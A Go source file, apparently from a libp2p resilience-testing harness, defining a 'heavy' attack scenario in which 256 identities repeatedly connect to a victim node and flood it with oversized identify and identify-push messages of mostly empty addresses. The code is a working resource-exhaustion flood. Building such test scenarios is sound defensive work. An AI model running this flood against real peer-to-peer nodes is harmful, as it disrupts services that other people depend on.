package attack

import (
	"bytes"
	"context"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/p2p/protocol/identify"
)

// heavy attacks with what the victim asks everybody who connects: who are you.
func heavy() Scenario {
	return Scenario{
		Name: "heavy", Daemons: true,
		About: "says 70 kB of itself, mostly empty addresses, whenever one of 256 identities connects, says so three times more, and comes again",
		Run:   onField(plain, flooded("heavy", 256, introduce)),
	}
}

// introduce connects, lets the victim identify it, and introduces itself again.
func introduce(ctx context.Context, _ int, s *stranger) {
	victim := s.field.victim()
	text := bytes.Repeat(framed(bytes.Repeat([]byte{2<<3 | 2, 0}, 4000)), 9)
	said := make(chan struct{}, 1)
	s.SetStreamHandler(identify.ID, func(stream network.Stream) {
		_ = stream.SetWriteDeadline(time.Now().Add(20 * time.Second))
		_, _ = stream.Write(text)
		_ = stream.Close()
		select {
		case said <- struct{}{}:
		default:
		}
	})
	for ctx.Err() == nil {
		if s.meet(ctx, victim) != nil {
			return
		}
		select {
		case <-said:
		case <-time.After(20 * time.Second):
		case <-ctx.Done():
		}
		for range 3 {
			if stream, err := s.say(ctx, victim, identify.IDPush, text); err == nil {
				_ = stream.CloseWrite()
			}
		}
		_ = rest(ctx, 100*time.Millisecond)
		_ = s.Network().ClosePeer(victim.id)
	}
}
